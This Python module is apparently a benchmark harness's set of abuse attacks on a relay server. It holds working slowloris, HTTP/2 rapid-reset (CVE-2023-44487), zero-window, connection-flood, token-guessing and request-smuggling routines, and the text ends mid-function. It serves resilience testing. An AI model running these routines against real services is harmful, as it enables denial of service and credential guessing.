"""Attack primitives against a relay, through its outside behaviour only.

Each attack is a coroutine taking the :class:`Target`, the source address to
bind to (``127.0.0.2``, ``127.0.0.3``, ...: per-address limits can then tell
an attacker from legitimate traffic on ``127.0.0.1``), a duration and an
intensity, and returning an :class:`AttackResult`. Sizes are capped by
default; the harness (bench/abuse.py) runs one attack per process so the
attacker never shares an event loop with the legitimate load it disturbs.

    python -m bench.attacks NAME < params.json     # one attack; prints its result as JSON

``params.json`` holds ``host``, ``port``, ``ca_file``, ``sources`` (a list),
``duration``, ``intensity`` and, as the attack needs them, ``tenant``,
``token``, ``secret``. They come on stdin so no secret shows in ``ps``.
"""

from __future__ import annotations

import asyncio
import base64
import contextlib
import json
import os
import resource
import secrets
import socket
import ssl
import sys
import time
import uuid
from collections import Counter
from collections.abc import Awaitable, Callable, Coroutine
from dataclasses import dataclass, field
from typing import Any, cast

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings
import hpack
import websockets
from hyperframe.frame import (
    ContinuationFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    RstStreamFrame,
    SettingsFrame,
)
from websockets.asyncio.client import connect as ws_connect

from appliance.signature import sign

#: No attack runs longer than this, whatever it is asked.
MAX_DURATION = 600.0
#: Connections any one attack holds at most.
MAX_CONNECTIONS = 20_000
#: Concurrent HTTP/1.1 guessers: each waits out a TLS handshake per attempt.
HTTP1_WORKERS = 8
_H2_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_TCP_CLOSE_WAIT = 8  # linux/tcp_states.h: the peer has sent its FIN
_TCP_CLOSE = 7


@dataclass(frozen=True)
class Target:
    """Where the relay's public listener is and how to trust it."""

    host: str
    port: int
    ca_file: str

    def tls(self, alpn: str = "http/1.1") -> ssl.SSLContext:
        """A client context trusting the relay's CA, offering one ALPN protocol."""
        context = ssl.create_default_context(cafile=self.ca_file)
        context.set_alpn_protocols([alpn])
        return context

    @property
    def authority(self) -> str:
        """``host:port`` for Host and ``:authority``."""
        return f"{self.host}:{self.port}"

    @property
    def bridge_url(self) -> str:
        """The bridge WebSocket URL."""
        return f"wss://{self.authority}/bridge"


@dataclass
class AttackResult:
    """What an attack did and what the relay answered."""

    name: str
    source: str
    seconds: float = 0.0
    #: Connections established (TCP, and TLS where the attack uses it).
    opened: int = 0
    #: Connection attempts that failed: refused, reset, timed out, TLS error.
    refused: int = 0
    #: Connections the server closed (FIN or reset) while the attack held them.
    closed_by_server: int = 0
    #: Requests, streams, upgrades or frames sent, as the attack counts them.
    requests: int = 0
    #: HTTP/2 RST_STREAM frames sent.
    resets: int = 0
    #: HTTP statuses seen (as strings in JSON).
    statuses: Counter[int] = field(default_factory=Counter)
    #: Seconds from open to the server's close, per closed connection.
    close_after: list[float] = field(default_factory=list)
    #: Attack-specific figures.
    notes: dict[str, Any] = field(default_factory=dict)

    def merge(self, other: AttackResult) -> None:
        """Add ``other`` (the same attack from another source) into this one."""
        self.source = f"{self.source},{other.source}"
        self.seconds = max(self.seconds, other.seconds)
        for name in ("opened", "refused", "closed_by_server", "requests", "resets"):
            setattr(self, name, getattr(self, name) + getattr(other, name))
        self.statuses.update(other.statuses)
        self.close_after.extend(other.close_after)
        for key, value in other.notes.items():
            mine = self.notes.get(key)
            if isinstance(mine, int | float) and isinstance(value, int | float):
                self.notes[key] = mine + value
            elif mine is None:
                self.notes[key] = value

    def summary(self) -> dict[str, Any]:
        """A JSON-able summary: close times reduced to count, p50 and max."""
        closes = sorted(self.close_after)
        return {
            "name": self.name,
            "source": self.source,
            "seconds": round(self.seconds, 1),
            "opened": self.opened,
            "refused": self.refused,
            "closed_by_server": self.closed_by_server,
            "requests": self.requests,
            "resets": self.resets,
            "statuses": {str(k): v for k, v in sorted(self.statuses.items())},
            "close_after_s": {
                "count": len(closes),
                "p50": round(closes[len(closes) // 2], 2) if closes else None,
                "max": round(closes[-1], 2) if closes else None,
            },
            "notes": self.notes,
        }


# -- connections ---------------------------------------------------------------


async def open_tcp(
    target: Target,
    source: str,
    *,
    tls: ssl.SSLContext | None = None,
    rcvbuf: int | None = None,
    within: float = 10.0,
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
    """A connection from ``source`` (any port) to the target, TLS when ``tls`` is given.

    ``rcvbuf`` shrinks the kernel's receive buffer before connecting, so a
    client that stops reading pushes back on the server sooner.
    """
    deadline = asyncio.get_running_loop().time() + within
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        if rcvbuf is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.bind((source, 0))
        sock.setblocking(False)
        async with asyncio.timeout_at(deadline):
            await asyncio.get_running_loop().sock_connect(sock, (target.host, target.port))
    except BaseException:
        sock.close()
        raise
    # From here asyncio owns the socket: it closes it on failure, and closing it
    # here too would free the fd under a transport still registered for it.
    async with asyncio.timeout_at(deadline):
        return await asyncio.open_connection(
            sock=sock,
            ssl=tls,
            server_hostname=target.host if tls else None,
            ssl_handshake_timeout=within if tls else None,
        )


def _peer_closed(writer: asyncio.StreamWriter) -> bool:
    """Whether the server has closed, read from the kernel without reading the socket."""
    sock = writer.get_extra_info("socket")
    if sock is None:
        return True
    try:
        state = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
    except OSError:
        return True
    return state in (_TCP_CLOSE_WAIT, _TCP_CLOSE)


async def _close(writer: asyncio.StreamWriter) -> None:
    writer.close()
    with contextlib.suppress(Exception):
        async with asyncio.timeout(2):
            await writer.wait_closed()


async def _until_closed(
    reader: asyncio.StreamReader, opened_at: float, result: AttackResult
) -> None:
    """Read and drop everything until the server closes; record when it did."""
    try:
        while await reader.read(65536):
            pass
    except (OSError, ssl.SSLError):
        pass
    result.closed_by_server += 1
    result.close_after.append(time.monotonic() - opened_at)


def _deadline(duration: float) -> float:
    return time.monotonic() + min(duration, MAX_DURATION)


async def _sleep_until(deadline: float) -> None:
    await asyncio.sleep(max(0.0, deadline - time.monotonic()))


async def _hold(
    count: int,
    duration: float,
    result: AttackResult,
    open_one: Callable[[], Awaitable[tuple[asyncio.StreamReader, asyncio.StreamWriter]]],
    after_open: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Coroutine[Any, Any, None]]
    | None = None,
    wave: int = 50,
) -> None:
    """Open ``count`` connections in waves, watch each until the server closes it, hold."""
    deadline = _deadline(duration)
    watchers: list[asyncio.Task[None]] = []
    writers: list[asyncio.StreamWriter] = []

    async def one() -> None:
        try:
            reader, writer = await open_one()
        except (OSError, ssl.SSLError, TimeoutError):
            result.refused += 1
            return
        result.opened += 1
        writers.append(writer)
        opened_at = time.monotonic()
        if after_open is not None:
            watchers.append(asyncio.create_task(after_open(reader, writer)))
        watchers.append(asyncio.create_task(_until_closed(reader, opened_at, result)))

    try:
        for start in range(0, min(count, MAX_CONNECTIONS), wave):
            if time.monotonic() >= deadline:
                break
            await asyncio.gather(*(one() for _ in range(min(wave, count - start))))
        await _sleep_until(deadline)
    finally:
        for task in watchers:
            task.cancel()
        await asyncio.gather(*(_close(w) for w in writers))


# -- HTTP/1.1 by hand ------------------------------------------------------------


@dataclass
class Response:
    """One HTTP/1.1 response as read off the wire."""

    status: int
    headers: dict[str, str]
    body: bytes


async def read_response(reader: asyncio.StreamReader, within: float = 10.0) -> Response:
    """Read one response: Content-Length or chunked body (the relay's errors are chunked)."""
    async with asyncio.timeout(within):
        head = await reader.readuntil(b"\r\n\r\n")
        lines = head.decode("latin-1").split("\r\n")
        version, _, rest = lines[0].partition(" ")
        if not version.startswith("HTTP/") or not rest[:3].isdigit():
            raise ValueError(f"not an HTTP/1 status line: {lines[0][:80]!r}")
        status = int(rest[:3])
        headers = {}
        for line in lines[1:]:
            if ":" in line:
                name, _, value = line.partition(":")
                headers[name.strip().lower()] = value.strip()
        body = b""
        if status == 101 or status in (204, 304):
            pass
        elif "chunked" in headers.get("transfer-encoding", "").lower():
            while True:
                size = int((await reader.readuntil(b"\r\n")).split(b";")[0], 16)
                if size == 0:
                    while await reader.readuntil(b"\r\n") != b"\r\n":
                        pass  # trailers
                    break
                body += (await reader.readexactly(size + 2))[:-2]
        elif "content-length" in headers:
            body = await reader.readexactly(int(headers["content-length"]))
        elif headers.get("connection", "").lower() == "close":
            body = await reader.read()
    return Response(status, headers, body)


def request_bytes(
    method: str, path: str, authority: str, headers: dict[str, str], body: bytes = b""
) -> bytes:
    """An HTTP/1.1 request; Content-Length added when there is a body or it is a POST."""
    lines = [f"{method} {path} HTTP/1.1", f"Host: {authority}"]
    lines += [f"{k}: {v}" for k, v in headers.items()]
    if body or method == "POST":
        lines.append(f"Content-Length: {len(body)}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


async def post_signed(
    target: Target,
    source: str,
    tenant: str,
    secret: str,
    bodies: list[bytes],
    result: AttackResult,
    *,
    signatures: list[str] | None = None,
) -> list[int]:
    """POST each body (signed, or with the given signatures) on one keep-alive connection."""
    statuses: list[int] = []
    reader, writer = await open_tcp(target, source, tls=target.tls())
    try:
        for i, body in enumerate(bodies):
            signature = signatures[i] if signatures else sign(secret.encode(), body)
            writer.write(
                request_bytes(
                    "POST",
                    f"/webhook/{tenant}",
                    target.authority,
                    {"x-line-signature": signature, "content-type": "application/json"},
                    body,
                )
            )
            result.requests += 1
            response = await read_response(reader, within=30)
            result.statuses[response.status] += 1
            statuses.append(response.status)
            if response.headers.get("connection", "").lower() == "close":
                await _close(writer)
                reader, writer = await open_tcp(target, source, tls=target.tls())
    finally:
        await _close(writer)
    return statuses


def large_body(size: int, marker: str = "") -> bytes:
    """A LINE-shaped text-message body of about ``size`` bytes, unique per call."""
    text = f"{marker or uuid.uuid4().hex} " + "x" * max(0, size - 400)
    event = {
        "type": "message",
        "mode": "active",
        "timestamp": int(time.time() * 1000),
        "webhookEventId": "01HZ" + uuid.uuid4().hex[:22].upper(),
        "deliveryContext": {"isRedelivery": False},
        "source": {"type": "user", "userId": "U" + "a" * 32},
        "replyToken": uuid.uuid4().hex,
        "message": {"id": "1", "type": "text", "quoteToken": "q", "text": text},
    }
    return json.dumps({"destination": "U" + "b" * 32, "events": [event]}).encode()


def _upgrade_request(target: Target, token: str) -> bytes:
    return request_bytes(
        "GET",
        "/bridge",
        target.authority,
        {
            "Upgrade": "websocket",
            "Connection": "Upgrade",
            "Sec-WebSocket-Key": base64.b64encode(os.urandom(16)).decode(),
            "Sec-WebSocket-Version": "13",
            "Authorization": f"Bearer {token}",
        },
    )


# -- HTTP/2 with h2 --------------------------------------------------------------


def h2_headers(event: h2.events.ResponseReceived) -> dict[str, str]:
    """An h2 response's headers as text, whatever encoding h2 was configured with."""
    return {
        (k.decode() if isinstance(k, bytes) else k): (v.decode() if isinstance(v, bytes) else v)
        for k, v in event.headers or []
    }


class H2Client:
    """An h2 client connection over an asyncio TLS stream (ALPN h2)."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer
        self.conn = h2.connection.H2Connection(
            h2.config.H2Configuration(client_side=True, header_encoding="utf-8")
        )

    @classmethod
    async def open(
        cls, target: Target, source: str, settings: dict[int, int] | None = None
    ) -> H2Client:
        """Connect, send the preface and our SETTINGS (plus ``settings``)."""
        reader, writer = await open_tcp(target, source, tls=target.tls("h2"))
        client = cls(reader, writer)
        client.conn.initiate_connection()
        if settings:
            client.conn.update_settings(settings)
        await client.flush()
        return client

    async def flush(self) -> None:
        """Send whatever h2 has queued (our frames, and its ACKs of the server's)."""
        data = self.conn.data_to_send()
        if data:
            self.writer.write(data)
            await self.writer.drain()

    async def events(self, within: float | None = None) -> list[h2.events.Event]:
        """The next events; an empty list means the server closed the connection."""
        async with asyncio.timeout(within):
            data = await self.reader.read(65536)
        if not data:
            return []
        events = self.conn.receive_data(data)
        await self.flush()
        return events or [h2.events.Event()]

    def request_headers(
        self, method: str, path: str, authority: str, extra: list[tuple[str, str]]
    ) -> list[tuple[str, str]]:
        """Pseudo-headers first, then ``extra``."""
        return [
            (":method", method),
            (":scheme", "https"),
            (":authority", authority),
            (":path", path),
            *extra,
        ]

    async def close(self) -> None:
        """Close the TCP/TLS connection without a GOAWAY."""
        await _close(self.writer)


# -- the attacks ---------------------------------------------------------------


async def slowloris(
    target: Target,
    source: str,
    duration: float = 20.0,
    intensity: int = 500,
    *,
    tenant: str = "x",
    trickle_every: float = 5.0,
) -> AttackResult:
    """``intensity`` TLS connections, each sending a partial HTTP/1 request head and then
    one more header line every ``trickle_every`` seconds, never the blank line."""
    result = AttackResult("slowloris", source)
    started = time.monotonic()

    async def trickle(_reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        writer.write(f"POST /webhook/{tenant} HTTP/1.1\r\nHost: {target.authority}\r\n".encode())
        n = 0
        with contextlib.suppress(OSError, ssl.SSLError, RuntimeError):
            while not writer.is_closing():
                await writer.drain()
                result.requests += 1
                await asyncio.sleep(trickle_every)
                n += 1
                writer.write(f"X-Slow-{n}: {n}\r\n".encode())

    await _hold(
        intensity,
        duration,
        result,
        lambda: open_tcp(target, source, tls=target.tls()),
        trickle,
    )
    result.seconds = time.monotonic() - started
    return result


async def idle(
    target: Target, source: str, duration: float = 20.0, intensity: int = 500
) -> AttackResult:
    """``intensity`` TLS connections that complete the handshake and send nothing."""
    result = AttackResult("idle", source)
    started = time.monotonic()
    await _hold(intensity, duration, result, lambda: open_tcp(target, source, tls=target.tls()))
    result.seconds = time.monotonic() - started
    return result


async def zero_window(
    target: Target,
    source: str,
    duration: float = 20.0,
    intensity: int = 1100,
    *,
    tenant: str = "x",
) -> AttackResult:
    """``intensity`` HTTP/2 connections that set ``SETTINGS_INITIAL_WINDOW_SIZE = 0``, POST
    ``/webhook/{tenant}`` with END_STREAM, then never open the window.

    The server can send the answer's HEADERS but not its DATA; a server with no
    send deadline holds the connection (and its handler) for as long as the
    client stays.
    """
    result = AttackResult("zero_window", source)
    result.notes["answers_headers_only"] = 0
    result.notes["goaways"] = 0
    started = time.monotonic()
    deadline = _deadline(duration)
    clients: list[H2Client] = []
    watchers: list[asyncio.Task[None]] = []

    async def watch(client: H2Client, opened_at: float) -> None:
        try:
            while True:
                events = await client.events()
                if not events:
                    break
                for event in events:
                    if isinstance(event, h2.events.ResponseReceived):
                        status = h2_headers(event).get(":status", "0")
                        result.statuses[int(status)] += 1
                        result.notes["answers_headers_only"] += 1
                    elif isinstance(event, h2.events.ConnectionTerminated):
                        result.notes["goaways"] += 1
        except (OSError, ssl.SSLError, h2.exceptions.ProtocolError):
            pass
        result.closed_by_server += 1
        result.close_after.append(time.monotonic() - opened_at)

    async def one() -> None:
        try:
            client = await H2Client.open(
                target, source, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}
            )
            client.conn.send_headers(
                1,
                client.request_headers(
                    "POST",
                    f"/webhook/{tenant}",
                    target.authority,
                    [("content-length", "0"), ("x-line-signature", "AAAA")],
                ),
                end_stream=True,
            )
            await client.flush()
        except (OSError, ssl.SSLError, TimeoutError):
            result.refused += 1
            return
        result.opened += 1
        result.requests += 1
        clients.append(client)
        watchers.append(asyncio.create_task(watch(client, time.monotonic())))

    try:
        for start in range(0, min(intensity, MAX_CONNECTIONS), 100):
            if time.monotonic() >= deadline:
                break
            await asyncio.gather(*(one() for _ in range(min(100, intensity - start))))
        await _sleep_until(deadline)
    finally:
        for task in watchers:
            task.cancel()
        await asyncio.gather(*(c.close() for c in clients))
    result.seconds = time.monotonic() - started
    return result


async def rapid_reset(
    target: Target,
    source: str,
    duration: float = 20.0,
    intensity: int = 10_000,
    *,
    tenant: str = "x",
    batch: int = 100,
) -> AttackResult:
    """HTTP/2 rapid reset (CVE-2023-44487): HEADERS (a POST with END_STREAM) then RST_STREAM,
    ``batch`` streams per write, up to ``intensity`` streams a second.

    Frames are built with hyperframe and hpack rather than through h2's state
    machine, because an attacker ignores the server's GOAWAY and h2 would not:
    the point is to see whether the server goes on reading. A connection the
    server closes is opened again.
    """
    result = AttackResult("rapid_reset", source)
    notes = result.notes
    notes.update(goaways=0, reconnects=0, streams_after_goaway=0, server_resets=0)
    notes["max_streams_on_one_connection"] = 0
    started = time.monotonic()
    deadline = _deadline(duration)
    rst = RstStreamFrame(1)
    rst.error_code = 8  # CANCEL
    ends: Counter[str] = Counter()
    notes["connection_ends"] = ends

    async def read_frames(reader: asyncio.StreamReader, state: dict[str, int]) -> None:
        decoder = hpack.Decoder()
        block = b""
        try:
            while True:
                header = await reader.readexactly(9)
                frame, length = Frame.parse_frame_header(memoryview(header))
                frame.parse_body(memoryview(await reader.readexactly(length)))
                if isinstance(frame, GoAwayFrame):
                    notes["goaways"] += 1
                    state["goaway"] = 1
                elif isinstance(frame, RstStreamFrame):
                    notes["server_resets"] += 1
                elif isinstance(frame, HeadersFrame | ContinuationFrame):
                    block += frame.data
                    if "END_HEADERS" in frame.flags:
                        headers = dict(decoder.decode(block, raw=True))
                        block = b""
                        if b":status" in headers:
                            result.statuses[int(headers[b":status"])] += 1
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError, hpack.HPACKError) as exc:
            ends[type(exc).__name__] += 1

    while time.monotonic() < deadline:
        try:
            reader, writer = await open_tcp(target, source, tls=target.tls("h2"))
        except (OSError, ssl.SSLError, TimeoutError):
            result.refused += 1
            await asyncio.sleep(0.1)
            continue
        result.opened += 1
        opened_at = time.monotonic()
        state = {"goaway": 0}
        reading = asyncio.create_task(read_frames(reader, state))
        encoder = hpack.Encoder()
        settings = SettingsFrame(0)
        writer.write(_H2_PREFACE + settings.serialize())
        stream_id = 1
        streams = 0
        try:
            while time.monotonic() < deadline and not reading.done():
                tick = time.monotonic()
                chunk = bytearray()
                for _ in range(batch):
                    headers = HeadersFrame(stream_id)
                    headers.data = encoder.encode(
                        [
                            (":method", "POST"),
                            (":scheme", "https"),
                            (":authority", target.authority),
                            (":path", f"/webhook/{tenant}"),
                        ]
                    )
                    headers.flags.add("END_HEADERS")
                    headers.flags.add("END_STREAM")
                    rst.stream_id = stream_id
                    chunk += headers.serialize() + rst.serialize()
                    stream_id += 2
                writer.write(bytes(chunk))
                await writer.drain()
                streams += batch
                result.requests += batch
                result.resets += batch
                if state["goaway"]:
                    notes["streams_after_goaway"] += batch
                # Pace to `intensity` streams a second; a slow server slows us too (drain).
                await asyncio.sleep(max(0.0, batch / intensity - (time.monotonic() - tick)))
        except (OSError, ssl.SSLError, RuntimeError):
            pass
        reading.cancel()
        await _close(writer)
        notes["max_streams_on_one_connection"] = max(
            notes["max_streams_on_one_connection"], streams
        )
        if time.monotonic() < deadline:
            result.closed_by_server += 1
            result.close_after.append(time.monotonic() - opened_at)
            notes["reconnects"] += 1
    result.seconds = time.monotonic() - started
    return result


async def token_guessing(
    target: Target,
    source: str,
    duration: float = 20.0,
    intensity: int = 1000,
    *,
    protocols: tuple[str, ...] = ("http1", "http2"),
) -> AttackResult:
    """Bridge upgrades with random tokens, up to ``intensity`` attempts a second: over
    HTTP/1.1 (keep-alive where the server allows) for the first part of the attack,
    then over HTTP/2 extended CONNECT (RFC 8441), so each protocol's rate shows alone.

    ``notes`` counts 401s and 429s and the rate reached per protocol,
    ``Retry-After`` headers seen, and any upgrade that succeeded (it never should).
    """
    result = AttackResult("token_guessing", source)
    notes = result.notes
    for proto in protocols:
        notes.update({f"{proto}_401": 0, f"{proto}_429": 0, f"{proto}_other": 0})
    notes.update(retry_after=0, upgraded=0, http2_no_extended_connect=0)
    started = time.monotonic()
    share = float(intensity)

    def count(proto: str, status: int, retry_after: str | None) -> None:
        result.statuses[status] += 1
        key = f"{proto}_{status}" if status in (401, 429) else f"{proto}_other"
        notes[key] += 1
        if retry_after is not None:
            notes["retry_after"] += 1
            notes["retry_after_last"] = retry_after
        if status in (101, 200):
            notes["upgraded"] += 1

    def guess() -> str:
        return "lrb_" + secrets.token_urlsafe(32)

    async def http1(rate: float, deadline: float) -> None:
        reader: asyncio.StreamReader | None = None
        writer: asyncio.StreamWriter | None = None
        while time.monotonic() < deadline:
            tick = time.monotonic()
            if reader is None or writer is None:
                try:
                    reader, writer = await open_tcp(target, source, tls=target.tls())
                except (OSError, ssl.SSLError, TimeoutError):
                    result.refused += 1
                    await asyncio.sleep(0.05)
                    continue
                result.opened += 1
            try:
                writer.write(_upgrade_request(target, guess()))
                response = await read_response(reader)
            except (OSError, ssl.SSLError, TimeoutError, asyncio.IncompleteReadError, ValueError):
                # The server closed the connection after its last answer: retry on a new one.
                await _close(writer)
                reader = writer = None
                result.closed_by_server += 1
                continue
            result.requests += 1
            count("http1", response.status, response.headers.get("retry-after"))
            if response.status == 101 or response.headers.get("connection") == "close":
                await _close(writer)
                reader = writer = None
            await asyncio.sleep(max(0.0, 1 / rate - (time.monotonic() - tick)))
        if writer is not None:
            await _close(writer)

    async def http2(deadline: float) -> None:
        while time.monotonic() < deadline:
            try:
                client = await H2Client.open(target, source)
            except (OSError, ssl.SSLError, TimeoutError):
                result.refused += 1
                await asyncio.sleep(0.1)
                continue
            result.opened += 1
            with contextlib.suppress(
                OSError, ssl.SSLError, TimeoutError, h2.exceptions.ProtocolError
            ):
                await _h2_guess(client, target.authority, deadline, share, guess, count, result)
            await client.close()

    part = min(duration, MAX_DURATION) / len(protocols)
    for proto in protocols:
        began, answered = time.monotonic(), result.requests
        deadline = began + part
        if proto == "http1":
            # Each attempt waits out a handshake (the server closes after a 401): several
            # workers keep the rate.
            await asyncio.gather(
                *(http1(share / HTTP1_WORKERS, deadline) for _ in range(HTTP1_WORKERS))
            )
        else:
            await http2(deadline)
        notes[f"{proto}_per_s"] = round((result.requests - answered) / (time.monotonic() - began))
    result.seconds = time.monotonic() - started
    return result


async def _h2_guess(
    client: H2Client,
    authority: str,
    deadline: float,
    rate: float,
    guess: Callable[[], str],
    count: Callable[[str, int, str | None], None],
    result: AttackResult,
) -> None:
    """Extended CONNECT streams on one connection, paced at ``rate``, at most 50 open."""
    # RFC 8441: only once the server has said SETTINGS_ENABLE_CONNECT_PROTOCOL = 1.
    async with asyncio.timeout(5):
        while not client.conn.remote_settings.enable_connect_protocol:
            if not await client.events():
                return
    open_streams: set[int] = set()
    sent = 0
    started = time.monotonic()
    pending: asyncio.Task[list[h2.events.Event]] | None = None
    while time.monotonic() < deadline:
        due = int((time.monotonic() - started) * rate) - sent
        while due > 0 and len(open_streams) < 50:
            stream_id = client.conn.get_next_available_stream_id()
            client.conn.send_headers(
                stream_id,
                client.request_headers(
                    "CONNECT",
                    "/bridge",
                    authority,
                    [
                        (":protocol", "websocket"),
                        ("sec-websocket-version", "13"),
                        ("authorization", f"Bearer {guess()}"),
                    ],
                ),
            )
            open_streams.add(stream_id)
            sent += 1
            due -= 1
            result.requests += 1
        await client.flush()
        if pending is None:
            pending = asyncio.create_task(client.events())
        done, _ = await asyncio.wait({pending}, timeout=0.01)
        if not done:
            continue
        events, pending = pending.result(), None
        if not events:
            result.closed_by_server += 1
            return
        for event in events:
            if isinstance(event, h2.events.ResponseReceived):
                headers = h2_headers(event)
                count("http2", int(headers.get(":status", "0")), headers.get("retry-after"))
                with contextlib.suppress(h2.exceptions.ProtocolError):
                    client.conn.reset_stream(event.stream_id)
                open_streams.discard(event.stream_id)
            elif isinstance(event, h2.events.DataReceived):
                with contextlib.suppress(h2.exceptions.ProtocolError):
                    client.conn.acknowledge_received_data(
                        event.flow_controlled_length, event.stream_id
                    )
            elif isinstance(event, h2.events.StreamReset | h2.events.StreamEnded):
                open_streams.discard(event.stream_id)
            elif isinstance(event, h2.events.ConnectionTerminated):
                result.closed_by_server += 1
                return
        await client.flush()
    if pending is not None:
        pending.cancel()


async def never_reading_bridge(
    target: Target,
    source: str,
    duration: float = 20.0,
    intensity: int = 10,
    *,
    tenant: str,
    token: str,
    secret: str,
    body_bytes: int = 256 * 1024,
    post_rate: float = 10.0,
) -> AttackResult:
    """``intensity`` bridges of one tenant (its real token) that connect and never read
    again, opened one after another over the first half of the attack (the newest
    is the active one, so each in turn is handed the tenant's window), while large
    signed webhooks are posted to that tenant at ``post_rate`` a second.
    """
    result = AttackResult("never_reading_bridge", source)
    result.notes.update(posted=0, posted_200=0)
    started = time.monotonic()
    deadline = _deadline(duration)
    writers: list[tuple[asyncio.StreamWriter, float]] = []
    closed: set[int] = set()

    async def post() -> None:
        posted = 0
        while time.monotonic() < deadline:
            due = int((time.monotonic() - started) * post_rate) - posted
            if due > 0:
                bodies = [large_body(body_bytes) for _ in range(due)]
                with contextlib.suppress(OSError, ssl.SSLError, TimeoutError, ValueError):
                    statuses = await post_signed(target, source, tenant, secret, bodies, result)
                    result.notes["posted_200"] += statuses.count(200)
                posted += due
                result.notes["posted"] = posted
            await asyncio.sleep(0.5)  # a few bodies per connection, not one each

    async def open_bridges() -> None:
        spacing = min(duration, MAX_DURATION) / 2 / max(1, intensity)
        for _ in range(intensity):
            try:
                reader, writer = await open_tcp(target, source, tls=target.tls(), rcvbuf=4096)
                writer.write(_upgrade_request(target, token))
                response = await read_response(reader)
            except (OSError, ssl.SSLError, TimeoutError, asyncio.IncompleteReadError, ValueError):
                result.refused += 1
                continue
            result.statuses[response.status] += 1
            result.requests += 1
            if response.status == 101:
                result.opened += 1
                cast(
                    asyncio.Transport, writer.transport
                ).pause_reading()  # the attack: never read again
                writers.append((writer, time.monotonic()))
            else:
                await _close(writer)
            await asyncio.sleep(spacing)

    async def watch() -> None:
        while time.monotonic() < deadline:
            for i, (writer, opened_at) in enumerate(writers):
                if i not in closed and _peer_closed(writer):
                    closed.add(i)
                    result.closed_by_server += 1
                    result.close_after.append(time.monotonic() - opened_at)
            await asyncio.sleep(0.5)

    try:
        await asyncio.gather(post(), open_bridges(), watch())
    finally:
        for writer, _ in writers:
            writer.transport.abort()
    result.seconds = time.monotonic() - started
    return result


async def reconnecting_bridge(
    target: Target,
    source: str,
    duration: float = 20.0,
    intensity: int = 3,
    *,
    tenant: str,
    token: str,
    secret: str | None = None,
    prime: int = 64,
    prime_bytes: int = 256 * 1024,
) -> AttackResult:
    """A bridge with the tenant's real token that reconnects ``intensity`` times a second,
    reading its hello and frames for most of each cycle, acking nothing, and dropping
    the connection without a close handshake.

    With ``secret``, the tenant's queue is first primed with ``prime`` webhooks
    of ``prime_bytes``, so every reconnect has a full window to be handed.
    """
    result = AttackResult("reconnecting_bridge", source)
    result.notes.update(frames_received=0, primed=0)
    started = time.monotonic()
    if secret is not None and prime:
        bodies = [large_body(prime_bytes) for _ in range(prime)]
        statuses = await post_signed(target, source, tenant, secret, bodies, result)
        result.notes["primed"] = statuses.count(200)
    deadline = _deadline(duration)
    context = target.tls()
    linger = min(0.25, 0.8 / intensity)  # reading what the relay sends, most of each cycle
    while time.monotonic() < deadline:
        tick = time.monotonic()
        try:
            async with ws_connect(
                target.bridge_url,
                ssl=context,
                additional_headers={"Authorization": f"Bearer {token}"},
                local_addr=(source, 0),
                max_size=None,
                compression=None,
                open_timeout=10,
                close_timeout=1,
            ) as ws:
                result.opened += 1
                result.requests += 1
                result.statuses[101] += 1
                with contextlib.suppress(TimeoutError):
                    async with asyncio.timeout(linger):
                        while True:
                            await ws.recv()
                            result.notes["frames_received"] += 1
                # Gone without a close handshake, as on a flaky network; a clean close
                # would wait behind the window the relay is still sending.
                ws.transport.abort()
        except websockets.exceptions.InvalidStatus as exc:
            result.requests += 1
            result.statuses[exc.response.status_code] += 1
        except (OSError, ssl.SSLError, TimeoutError, websockets.exceptions.WebSocketException):
            result.refused += 1
        await asyncio.sleep(max(0.0, 1 / intensity - (time.monotonic() - tick)))
    result.seconds = time.monotonic() - started
    return result


async def fd_flood(
    target: Target,
    source: str,
    duration: float = 20.0,
    intensity: int = 1500,
    *,
    tls: bool = False,
) -> AttackResult:
    """Open TCP connections (TLS too when ``tls``) as fast as possible up to ``intensity``
    and hold them; those the server closes are opened again until the end."""
    result = AttackResult("fd_flood", source)
    started = time.monotonic()
    deadline = _deadline(duration)
    count = min(intensity, MAX_CONNECTIONS)
    context = target.tls() if tls else None
    writers: set[asyncio.StreamWriter] = set()

    async def slot() -> None:
        while time.monotonic() < deadline:
            try:
                reader, writer = await open_tcp(
                    target,
                    source,
                    tls=context,
                    within=max(0.1, min(3.0, deadline - time.monotonic())),
                )
            except (OSError, ssl.SSLError, TimeoutError):
                result.refused += 1
                await asyncio.sleep(0.05)
                continue
            result.opened += 1
            writers.add(writer)
            opened_at = time.monotonic()
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(max(0.0, deadline - time.monotonic())):
                    await _until_closed(reader, opened_at, result)
            writers.discard(writer)
            writer.transport.abort()

    try:
        await asyncio.gather(*(slot() for _ in range(count)))
    finally:
        for writer in writers:
            writer.transport.abort()
    result.seconds = time.monotonic() - started
    return result


async def smuggle(
    target: Target,
    source: str,
    duration: float = 5.0,
    intensity: int = 3,
    *,
    tenant: str,
    secret: str,
) -> AttackResult:
    """``intensity`` probes: a signed webhook sent with both ``Content-Length`` and
    ``Transfer-Encoding: chunked``, the chunked body followed by a second request
    (``GET /webhook/{tenant}``) that only a Content-Length reader would take as
    body. ``notes`` says whether the second was answered and whether the server
    closed the connection (RFC 9112 §6.3: it must treat the message as an error
    and close)."""
    result = AttackResult("smuggle", source)
    result.notes.update(second_answered=0, connection_closed=0, probes=0)
    started = time.monotonic()
    deadline = _deadline(duration)
    for _ in range(intensity):
        if time.monotonic() >= deadline:
            break
        body = large_body(600)
        chunked = f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n"
        second = request_bytes("GET", f"/webhook/{tenant}", target.authority, {})
        head = (
            f"POST /webhook/{tenant} HTTP/1.1\r\nHost: {target.authority}\r\n"
            f"x-line-signature: {sign(secret.encode(), body)}\r\n"
